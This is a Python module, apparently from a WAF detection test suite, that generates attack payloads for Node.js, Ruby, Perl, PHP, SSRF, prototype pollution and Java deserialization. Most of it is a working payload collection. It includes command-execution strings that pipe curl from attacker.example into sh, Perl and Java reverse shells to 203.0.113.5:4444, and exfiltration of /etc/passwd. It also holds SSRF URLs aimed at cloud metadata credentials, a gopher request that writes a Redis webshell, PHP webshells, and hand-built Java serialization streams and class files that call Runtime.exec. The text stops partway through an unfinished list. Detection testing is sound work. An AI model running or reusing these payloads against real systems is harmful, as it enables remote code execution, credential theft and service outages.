"""Blind set "hundredfortysixth": polyglot, multi-context and second-order payloads for the generic (Node.js,
SSRF, prototype pollution, Ruby, Perl, DoS, PHP data scheme), Java and server-side template injection titles,
with benign requests that carry the same words innocently.

The angle: one value that works in several places at once. A payload that first closes the context a careless
page, query or script puts it in (an HTML attribute, a JS string, a SQL string, a comment) and then runs on its
real target; an expression that is valid in two grammars (a template expression that is also JavaScript, an ERB
tag that is also an EJS tag, an EL expression that both SpEL and JUEL evaluate, a JSON document that both
fastjson and Jackson bind); a URL that reaches a metadata service or a loopback port through whichever parser
fetches it (the image proxy, a PDF renderer, an XML parser, a JNDI lookup); a command that picks sh or cmd.exe
for itself; a file that is an image and a script; and values stored in a profile, a setting or a log line for
second-order use, firing when an admin page, a report job, a log viewer or an export later renders, merges,
deserializes or evaluates them. Every payload names its real primary target in the comment above its list
(interpreter, fetcher, deserializer, logger or template engine); that target is its `sub`.

Families and sub-families:
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization (ac ed 00 05 raw, percent-encoded, base64
    rO0AB, gzip+base64, hex), java-deserialization-gadgets (commons-collections, spring, groovy, jdk7u21, c3p0,
    rome, hibernate: gadget-class probes and textual gadgets), log4shell, expression-language (OGNL, SpEL, MVEL,
    JEXL, JSP/JSF EL, Commons Text), java-polymorphic-binding (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML),
    class-loading (URLClassLoader, defineClass, Spring4Shell binding, Grape), jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, or a whole JSON / XML / form body where only a whole body works), once the way a
WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1),
as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom
header or a cookie. Parameter-binding payloads (prototype pollution in qs syntax, Spring4Shell, EJS options,
Struts parameter names) go unquoted as `name=value`; raw Java serialization streams go percent-encoded in a
query, form, cookie or parameter name; JSP uploads go as multipart file names or file contents.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The Java serialization streams and the class files (a class whose static initializer calls Runtime.exec) are
built here byte by byte. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import json
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _get, _json
from .records import print_records

NAME = "hundredfortysixth"


def _u16(n: int) -> bytes:
    return struct.pack(">H", n)


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _gzb64(raw: bytes) -> str:
    return _b64(gzip.compress(raw, mtime=0))


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams (ObjectOutputStream grammar, stream version 5)
JMAGIC = b"\xac\xed\x00\x05"


def _jutf(text: str) -> bytes:
    raw = text.encode()
    return _u16(len(raw)) + raw


def _jdesc(cls: str, suid: int, flags: int, fields: bytes = b"\x00\x00") -> bytes:
    """TC_CLASSDESC, its fields, TC_ENDBLOCKDATA and no superclass (TC_NULL)."""
    return b"r" + _jutf(cls) + struct.pack(">qB", suid, flags) + fields + b"xp"


def _jstrings(items: list[str]) -> bytes:
    """A String[] (serialVersionUID of [Ljava.lang.String;)."""
    out = JMAGIC + b"u" + _jdesc("[Ljava.lang.String;", -5921575005990323385, 2) + struct.pack(">i", len(items))
    return out + b"".join(b"t" + _jutf(s) for s in items)


def _jprobe(cls: str, suid: int) -> bytes:
    """An object of a gadget class with no field data: the class is resolved on readObject, so a
    ClassNotFoundException (absent) and an InvalidClassException (present, other serialVersionUID) tell the
    gadget libraries on the class path apart (gadget probing)."""
    return JMAGIC + b"s" + _jdesc(cls, suid, 2)


SER_SH = _jstrings(["/bin/sh", "-c", "curl -s http://attacker.example/j|sh"])
SER_CMD = _jstrings(["cmd.exe", "/c", "powershell -nop -c iwr http://attacker.example/w -useb|iex"])
SER_HASHMAP = JMAGIC + b"s" + _jdesc("java.util.HashMap", 362498820763181265, 3,
                                     _u16(2) + b"F" + _jutf("loadFactor") + b"I" + _jutf("threshold")) \
    + struct.pack(">fi", 0.75, 0) + b"w\x08" + struct.pack(">ii", 16, 0) + b"x"
SER_INVOKER = _jprobe("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688)
SER_BAVE = _jprobe("javax.management.BadAttributeValueExpException", -3105272988410493376)
SER_TEMPLATES = _jprobe("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707)
# gadget probes for the other libraries (serialVersionUID 1: present-but-different is itself the signal)
PROBE_CC4 = _jprobe("org.apache.commons.collections4.functors.InstantiateTransformer", 1)
PROBE_SPRING = _jprobe("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 1)
PROBE_GROOVY = _jprobe("org.codehaus.groovy.runtime.ConvertedClosure", 1)
PROBE_JDK7U21 = _jprobe("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397)
PROBE_C3P0 = _jprobe("com.mchange.v2.c3p0.PoolBackedDataSource", 1)
PROBE_ROME = _jprobe("com.sun.syndication.feed.impl.ObjectBean", 1)
PROBE_HIBERNATE = _jprobe("org.hibernate.engine.spi.TypedValue", 1)


# ----------------------------------------------------------------------------------------------------------------
# A class file (major 50) whose static initializer runs Runtime.getRuntime().exec(cmd), with a no-arg constructor
def _classfile(name: str, super_: str, cmd: str) -> bytes:
    cp: list[bytes] = []

    def utf(s: str) -> int:
        cp.append(b"\x01" + _u16(len(s.encode())) + s.encode())
        return len(cp)

    def cls(s: str) -> int:
        i = utf(s)
        cp.append(b"\x07" + _u16(i))
        return len(cp)

    def mref(c: str, n: str, d: str) -> int:
        ci, ni, di = cls(c), utf(n), utf(d)
        cp.append(b"\x0c" + _u16(ni) + _u16(di))
        nat = len(cp)
        cp.append(b"\x0a" + _u16(ci) + _u16(nat))
        return len(cp)

    this, sup, code = cls(name), cls(super_), utf("Code")
    init, clinit, void = utf("<init>"), utf("<clinit>"), utf("()V")
    superinit = mref(super_, "<init>", "()V")
    getrt = mref("java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;")
    exe = mref("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;")
    si = utf(cmd)
    cp.append(b"\x08" + _u16(si))
    s = len(cp)

    def method(access: int, nm: int, stack: int, locs: int, body: bytes) -> bytes:
        attr = struct.pack(">HHI", stack, locs, len(body)) + body + b"\x00\x00\x00\x00"
        return struct.pack(">HHHH", access, nm, void, 1) + _u16(code) + struct.pack(">I", len(attr)) + attr

    m_init = method(0x0001, init, 1, 1, b"\x2a\xb7" + _u16(superinit) + b"\xb1")
    m_clinit = method(0x0008, clinit, 2, 0, b"\xb8" + _u16(getrt) + b"\x12" + bytes([s]) + b"\xb6" + _u16(exe)
                      + b"\x57\xb1")
    head = b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, 50) + _u16(len(cp) + 1) + b"".join(cp)
    return head + struct.pack(">HHHHH", 0x0021, this, sup, 0, 0) + _u16(2) + m_init + m_clinit + _u16(0)


EXPLOIT_CLASS = _b64(_classfile("Exploit", "java/lang/Object", "curl -s http://attacker.example/cl -o /tmp/cl"))
TRANSLET_CLASS = _b64(_classfile("Translet", "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet",
                                 "nslookup tpl.oast.example"))


def _charcodes(text: str) -> str:
    return ",".join(str(ord(ch)) for ch in text)


def _octal(text: str) -> str:
    return "".join(f"\\{ord(ch):o}" for ch in text)


def _php_b64(code: str) -> str:
    return _b64(code.encode())


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind
# of place (a whole body, `name=value` binding, a header, a file upload).
Entry = str | tuple[str, str, str]

# --- generic ---------------------------------------------------------------------------------------------------
# Node.js (18-22): input concatenated into code run by eval / new Function / vm (a report formula, a filter
# expression, a stored "display template"); each first closes the string, array or comment it lands in
NODEJS: list[Entry] = [
    "'-require('child_process').execSync('id')-'",
    "\";require('child_process').exec('curl -s http://attacker.example/n1|sh');//",
    "*/require('child_process').exec('nslookup n2.oast.example')/*",
    "${require('child_process').execSync('id')}",
    "'||require('child_process').execSync('cat /etc/passwd')||'",
    "1;return process.mainModule.require('child_process').execSync('id').toString()//",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "process.platform==='win32'?require('child_process').execSync('whoami'):require('child_process')"
    ".execSync('id')",
    "'+require('fs').readFileSync('/etc/passwd','utf8')+'",
    "eval(String.fromCharCode(" + _charcodes("require('child_process').execSync('id')") + "))",
    "require('vm').runInNewContext(\"this.constructor.constructor('return process')().mainModule"
    ".require('child_process').execSync('id')\")",
    "new Function(\"return process\")().mainModule.require(\"child_process\").execSync(\"id\")",
    "\"]);process.mainModule.require('child_process').exec('id');//",
    "import('child_process').then(m=>m.exec('curl http://attacker.example/n3 -d @/etc/passwd'))",
    "process.mainModule.constructor._load('child_process').exec('id')",
    "');}catch(e){};require('child_process').spawn('sh',['-c','id']);//",
    "String.raw`${process.mainModule.require('child_process').execSync('id')}`",
    "a\u2028require('child_process').execSync('id')//",
    "'\"--></script>${require('child_process').execSync('id')}",
    "global.process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],"
    "stdio:[{type:'pipe',readable:1,writable:0}]})",
    "require('child_process').spawnSync('cmd.exe',['/c','whoami']).stdout||require('child_process')"
    ".spawnSync('id').stdout",
    "1}});process.kill(process.pid);({a:{b:1",
    "require('fs').writeFileSync('/app/public/x.js','require(\\'child_process\\').exec(\\'id\\')')",
    ('{"name":"Ann","bio":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl attacker.example/nd'
     '|sh\')}()"}', "json-body", "rs-json-body"),
    "');require('child_process').exec('id');('",
    "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('id')",
]
# Node.js denial of service: input that lands in eval/vm code (a loop, a huge allocation, a catastrophic regex,
# a blocking call), each closing the string or expression it lands in
NODEJS_DOS: list[Entry] = [
    "';while(true){};'",
    "\";for(;;){}//",
    "1;do{}while(1)//",
    "'+(function f(){return f()+f()})()+'",
    "${'x'.repeat(2**29)}",
    "'-new Array(4294967295).join('x')-'",
    "Buffer.alloc(2**31-1).fill(1)",
    "Array.from({length:1e9},()=>({}))",
    "/(a+)+$/.test('a'.repeat(64)+'!')",
    "new RegExp('(x|xx)+y').test('x'.repeat(100))",
    "require('crypto').pbkdf2Sync('a','b',1e10,64,'sha512')",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "JSON.parse('['.repeat(1e7)+']'.repeat(1e7))",
    "'';const a=[];for(;;)a.push(new ArrayBuffer(1<<30));''",
    "process.nextTick(function f(){process.nextTick(f)})",
    "setInterval(()=>{while(1);},0)",
    "''.padStart(2**30,'*').split('')",
    "require('child_process').execSync('sleep 3600')",
    "})();while(true){}(function(){",
]
# SSRF to cloud metadata through whatever fetches the value (avatar/webhook fetcher, an HTML-to-PDF renderer, an
# XML parser, a Java URL handler), in parser-differential, extension-check and second-order shapes
SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/#avatar.png",
    "http://169.254.169.254/latest/user-data?.jpg",
    "http://user@169.254.169.254:80@attacker.example/latest/meta-data/",
    "http://attacker.example\\@169.254.169.254/latest/meta-data/iam/info",
    "http://[::ffff:169.254.169.254]/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?alt=json&f=.png",
    "http://169.254.169.254/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management"
    ".azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://169.254.169.254/opc/v1/instance/metadata/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
    "<img src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=900>",
    "<iframe src=\"http://metadata.google.internal/computeMetadata/v1beta1/?recursive=true\" width=900></iframe>",
    "<link rel=stylesheet href=\"http://100.100.100.200/latest/meta-data/\">",
    "body{background:url(http://169.254.169.254/latest/meta-data/hostname)}",
    "http://169.254.169.254/latest/meta-data/#\"><img src=x onerror=alert(1)>",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://metadata.google.internal./computeMetadata/v1/instance/attributes/kube-env",
    "jar:http://169.254.169.254/latest/user-data!/",
    ("<?xml version=\"1.0\"?><!DOCTYPE u [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/"
     "security-credentials/\">]><user><name>&m;</name></user>", "xml", "rs-xml"),
    ('{"name":"Ann","webhook_url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/",'
     '"avatar_url":"http://100.100.100.200/latest/meta-data/"}', "json-body", "rs-json-body"),
    "http://instance-data.ec2.internal/latest/meta-data/public-keys/0/openssh-key",
    "http://169.254.169.254/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
]
# SSRF to loopback and private addresses (decimal, octal, hex, short forms, aliases, file/gopher/dict/ldap)
SSRF_INTERNAL: list[Entry] = [
    "http://2130706433:8080/actuator/env",
    "http://0x7f000001/server-status?auto",
    "http://0177.0.0.01:6379/",
    "http://127.1:9200/_cat/indices?v",
    "http://0:8500/v1/agent/self",
    "http://localtest.me:8080/admin/",
    "http://[::]:6379/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0A"
    "SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "file://127.0.0.1/etc/shadow",
    "http://127.0.0.1.nip.io:8080/manager/html",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:2375/containers/json",
    "http://attacker.example@10.0.0.5:8080/manager/html",
    "http://172.17.0.1:2375/v1.41/containers/json?all=1",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "http://127.127.127.127:15672/api/overview",
    "http://[::1]:5984/_all_dbs",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "<img src=\"http://127.0.0.1:8080/admin/users/delete?id=1\">",
    "netdoc:///etc/passwd",
    "http://0x7f.0x0.0x0.0x1:8080/",
    "http://017700000001:3306/",
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E%0D%0ARCPT%20TO%3A%3Croot"
    "%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A",
    "http://localhost%00.attacker.example/",
    ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><user><name>&f;</name>"
     "</user>", "xml", "rs-xml"),
]
# prototype pollution of Node.js objects (qs / body-parser / lodash.merge / deep-extend), aimed at the gadgets
# that turn it into code (EJS, Pug, Handlebars, lodash.template, child_process), probes and second-order
# settings merged later
POLLUTION: list[Entry] = [
    ("__proto__[isAdmin]=true", "raw-query", "rs-raw-query"),
    ('{"__proto__":{"isAdmin":true},"name":"Ann"}', "json-body", "rs-json-body"),
    ('{"profile":{"__proto__":{"role":"admin"}}}', "json-body", "rs-json-body"),
    ("constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
     "raw-query", "rs-raw-body"),
    ('{"__proto__":{"outputFunctionName":"_x;global.process.mainModule.require(\'child_process\')'
     '.exec(\'curl attacker.example/pp|sh\');var _y"}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', "json-body", "rs-json-body"),
    ('{"constructor":{"prototype":{"env":{"EVIL":"require(\'child_process\').execSync(\'id\')//"},'
     '"NODE_OPTIONS":"--require /proc/self/environ"}}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"sourceURL":"\\nreturn e=>{return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'id\')}\\n//"}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\')'
     '.execSync(\'id\')"}}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
     '"NumberLiteral","value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],'
     '"loc":{"start":0,"end":0}}]}}', "json-body", "rs-json-body"),
    ("__proto__[toString]=1", "raw-query", "rs-raw-query"),
    ("a[__proto__][polluted]=1&a[b]=2", "raw-form", "rs-raw-body"),
    ("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>", "raw-query", "rs-raw-query"),
    ('{"__proto__":{"json spaces":10}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"exposedHeaders":["X-Polluted"],"status":510}}', "json-body", "rs-json-body"),
    ("constructor.prototype.isAdmin=true", "raw-form", "rs-raw-body"),
    ('{"x":{"__proto__":{"__proto__":{"polluted":1}}}}', "json-body", "rs-json-body"),
    ('{"name":"Ann","settings":"{\\"__proto__\\":{\\"isAdmin\\":true}}"}', "json-body", "rs-json-body"),
    ("__proto__[allowedTags][]=script&__proto__[allowedAttributes][*][]=onerror", "raw-query", "rs-raw-query"),
    ('[{"op":"add","path":"/__proto__/isAdmin","value":true}]', "json-body", "rs-json-body"),
    ("__proto__.srcdoc=<script>alert(1)</script>", "raw-query", "rs-raw-query"),
]
# Ruby (Rails/Sinatra): eval and string interpolation, Kernel#open pipes, YAML.load and Marshal.load gadgets
RUBY: list[Entry] = [
    "\"+%x(id)+\"",
    "#{%x(id)}",
    "';system('id');'",
    "|curl -s http://attacker.example/r.sh|sh",
    "|id;echo '\"><b>",
    "\";`cat /etc/passwd`;\"",
    "Ann#{system('curl -s attacker.example/rb|sh')}",
    "IO.popen('id').read",
    "Open3.capture2('id')[0]",
    "send(:system,'id')",
    "Kernel.public_send(:eval,'`id`')",
    "Object.const_get(:Kernel).exec('id')",
    "instance_eval('%x(whoami)')",
    "RUBY_PLATFORM=~/mingw|mswin/ ? `whoami` : `id`",
    "eval(URI.open('http://attacker.example/p.rb').read)",
    "IO.read('|id')",
    "'.instance_eval(%q(Process.spawn('id')))#",
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! \"foo; system('id')\\n__END__\\n\"\n"
    ": !ruby/struct\n  defaults:\n    :action: create\n",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n  - !ruby/object"
    ":Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n      loaded_from: \"|id 1>&2\"\n",
    _b64(b"\x04\x08o:\x15Gem::Requirement\x06:\x12@requirements[\x00"),
    "__send__(:`,'id')",
]
# Perl (CGI, Mojolicious): two-argument open, system/exec/qx, eval of strings, /e substitutions
PERL: list[Entry] = [
    "id|",
    "x;cat /etc/passwd|",
    "| mail attacker@attacker.example < /etc/passwd",
    "';system(\"id\");'",
    "@{[system \"id\"]}",
    "${\\ qx(id)}",
    "qx{curl -s http://attacker.example/p.pl|perl}",
    "readpipe('id')",
    "eval(\"sys\".\"tem('id')\")",
    "open(F,'id|');print <F>",
    "x/;system(\"id\");s/x/",
    "perl -e 'use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
    "use LWP::Simple;eval get('http://attacker.example/p.pl')",
    "\";exec{'/bin/sh'}'sh','-c','id';\"",
    "die `id`",
    "syswrite STDOUT,qx(cat /etc/shadow)",
    "do '/proc/self/environ'",
    "report.txt;rm -f /tmp/x;id|",
    "\";system('/bin/sh','-c','id');#",
]
# PHP streams: data: in include/require/file_get_contents (stored avatar or template URLs included later)
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + _php_b64("<?php system($_GET['c']); ?>"),
    "data:text/plain,<?php phpinfo();?>",
    "data://text/plain,<?php system('id');?>",
    "data:image/gif;base64," + _php_b64("GIF89a<?php system('id'); ?>"),
    "data:,<?=`id`?>",
    "data://text/plain;base64," + _php_b64("<?php file_put_contents('s.php','<?php eval($_POST[1]);'); ?>"),
    "php://filter/convert.base64-decode/resource=data://plain/text," + _php_b64("<?php system('id');?>"),
    "data://text/html;base64," + _php_b64("<script>alert(document.domain)</script><?php system('id'); ?>"),
    "data:;base64," + _php_b64("<?php phpinfo(); ?>"),
    "DaTa://text/plain;base64," + _php_b64("<?php system('cmd.exe /c whoami'); ?>"),
    "data://text/plain;charset=utf-8,<?php echo shell_exec($_GET['x']);?>",
    "compress.zlib://data:;base64," + _gzb64(b"<?php system('id'); ?>"),
    "data://text/plain;base64," + _php_b64("<?php system($_REQUEST['cmd']);").rstrip("="),
    "data:text/plain,<?php passthru('uname -a');?><script>alert(document.domain)</script>",
    "data://application/x-httpd-php,<?php readfile('/etc/passwd');?>",
    "data:text/plain;base64," + _php_b64("<?php eval(base64_decode($_POST['z'])); ?>"),
]

# --- java ------------------------------------------------------------------------------------------------------
# Java dangerous classes named in an expression that Groovy, BeanShell, Nashorn/Rhino and Java itself all accept
# (a rules-engine formula, a scripted report field, a Jenkins/ScriptRunner console), often closing a string first
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "\"+java.lang.Runtime.getRuntime().exec(\"curl -s http://attacker.example/jc|sh\")+\"",
    "Java.type(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",java.lang.String.class).invoke(java.lang"
    ".Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
    "new javax.naming.InitialContext().lookup(\"ldap://attacker.example:1389/Exploit\")",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "new java.io.FileOutputStream(\"/usr/local/tomcat/webapps/ROOT/s.jsp\").write(\"<%=Runtime.getRuntime()"
    ".exec(request.getParameter(\\\"c\\\"))%>\".getBytes())",
    "java.lang.Class.forName(\"sun.misc.Unsafe\").getDeclaredField(\"theUnsafe\")",
    "java.lang.Runtime.getRuntime().halt(0)",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "java.lang.invoke.MethodHandles.lookup().findStatic(java.lang.Runtime.class,\"getRuntime\",java.lang.invoke"
    ".MethodType.methodType(java.lang.Runtime.class)).invoke().exec(\"id\")",
    "');java.lang.System.setSecurityManager(null);java.lang.Runtime.getRuntime().exec('id');('",
    "javax.script.ScriptEngineManager().getEngineByExtension('groovy').eval('\"id\".execute().text')",
    "java.lang.System.getenv().toString()+java.lang.System.getProperties().toString()",
    "new java.net.URL(\"http://attacker.example/jx?\"+java.lang.System.getProperty(\"user.home\")).openStream()",
    "java.lang.reflect.Proxy.newProxyInstance(null,new Class[]{java.lang.Runnable.class},"
    "new java.beans.EventHandler(new java.lang.ProcessBuilder(\"id\"),\"start\",null,null))",
]
# Java process spawning (Groovy script consoles, Jenkins pipelines, BeanShell, Java snippets), sh/cmd aware
JAVA_SPAWN: list[Entry] = [
    "\"id\".execute().text",
    "[\"sh\",\"-c\",\"curl -s http://attacker.example/g|sh\"].execute()",
    "[\"cmd\",\"/c\",\"whoami\"].execute().text",
    "new ProcessBuilder(System.getProperty(\"os.name\").startsWith(\"Windows\")?new String[]{\"cmd\",\"/c\","
    "\"whoami\"}:new String[]{\"sh\",\"-c\",\"id\"}).start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"})",
    "Runtime.getRuntime().exec(\"powershell -nop -w hidden -c iex(iwr http://attacker.example/p.ps1 -useb)\")",
    "new ProcessBuilder(\"bash\",\"-c\",\"{echo,aWQ=}|{base64,-d}|bash\").inheritIO().start()",
    "def p='id'.execute();p.waitFor();println p.in.text",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})\ndef x",
    "Runtime.getRuntime().exec(new String[]{\"cmd.exe\",\"/c\",\"ping -n 1 203.0.113.5\"})",
    "new ProcessBuilder([\"sh\",\"-c\",\"id\"] as String[]).redirectErrorStream(true).start().text",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "node { sh 'curl -s http://attacker.example/jp | sh' }",
    "'+Runtime.getRuntime().exec(\"id\")+'",
    "String h=\"203.0.113.5\";int p=4444;Process pr=new ProcessBuilder(\"/bin/sh\").redirectErrorStream(true)"
    ".start();java.net.Socket s=new java.net.Socket(h,p);",
    "bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
    "ProcessBuilder pb=new ProcessBuilder(\"nslookup\",\"pb.oast.example\");pb.start();",
    "Runtime.runtime.exec('curl -d @/etc/passwd http://attacker.example/x')",
    "\"]);Runtime.getRuntime().exec(\"id\");//",
]
# Java serialization streams (ObjectInputStream.readObject of a cookie, a parameter, a stored blob)
JAVA_SERIAL: list[Entry] = [
    (_latin(SER_SH), "query", "rs-query"),
    (_latin(SER_CMD), "cookie", "rs-form"),
    (_latin(SER_HASHMAP), "form", "rs-cookie"),
    (_latin(SER_INVOKER), "query", "rs-form"),
    (_latin(SER_BAVE), "param-name", "rs-query"),
    (_latin(SER_TEMPLATES), "form", "rs-param-name"),
    _b64(SER_SH),
    _b64(SER_CMD),
    _b64(SER_HASHMAP),
    _b64(SER_INVOKER),
    _b64(SER_BAVE),
    _b64(SER_TEMPLATES),
    _gzb64(SER_SH),
    SER_CMD.hex(),
    base64.urlsafe_b64encode(SER_HASHMAP).decode().rstrip("="),
    (json.dumps({"name": "Ann", "preferences": _b64(SER_INVOKER)}), "json-body", "rs-json-body"),
    ("javax.faces.ViewState=" + urllib.parse.quote(_b64(SER_BAVE), safe=""), "raw-form", "rs-raw-body"),
    _gzb64(SER_TEMPLATES),
]
# deserialization gadgets: class probes for each library (base64 streams) and the text forms that reach the same
# gadgets (Jackson default typing, SnakeYAML, XStream)
CCF = "org.apache.commons.collections.functors."
JAVA_GADGETS: list[Entry] = [
    _b64(PROBE_CC4),
    _b64(PROBE_SPRING),
    _b64(PROBE_GROOVY),
    _b64(PROBE_JDK7U21),
    _b64(PROBE_C3P0),
    _b64(PROBE_ROME),
    _b64(PROBE_HIBERNATE),
    ('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
     + SER_SH.hex() + ';"}]', "json-body", "rs-json-body"),
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"ldap://attacker.example:1389/c3p0",'
     '"loginTimeout":0}]', "json-body", "rs-json-body"),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://attacker.example/x.sql\'"}]', "json-body", "rs-json-body"),
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/"
    "y.jar\"]]]]",
    "!!org.springframework.context.support.ClassPathXmlApplicationContext [\"http://attacker.example/spring.xml\"]",
    ('["org.springframework.context.support.FileSystemXmlApplicationContext","http://attacker.example/beans.xml"]',
     "json-body", "rs-json-body"),
    ("<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
     "\"org.codehaus.groovy.runtime.ConvertedClosure\"><methodName>compareTo</methodName><delegate class=\"org."
     "codehaus.groovy.runtime.MethodClosure\"><delegate class=\"string\">id</delegate><owner class=\"string\">id"
     "</owner><resolveStrategy>0</resolveStrategy><directive>0</directive><parameterTypes/><maximumNumberOf"
     "Parameters>0</maximumNumberOfParameters><method>execute</method></delegate></handler></dynamic-proxy>"
     "</sorted-set>", "xml", "rs-xml"),
    ('["org.hibernate.jmx.StatisticsService",{"sessionFactoryJNDIName":"ldap://attacker.example/hib"}]',
     "json-body", "rs-json-body"),
    ('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://attacker.example:1389/hk"}]',
     "json-body", "rs-json-body"),
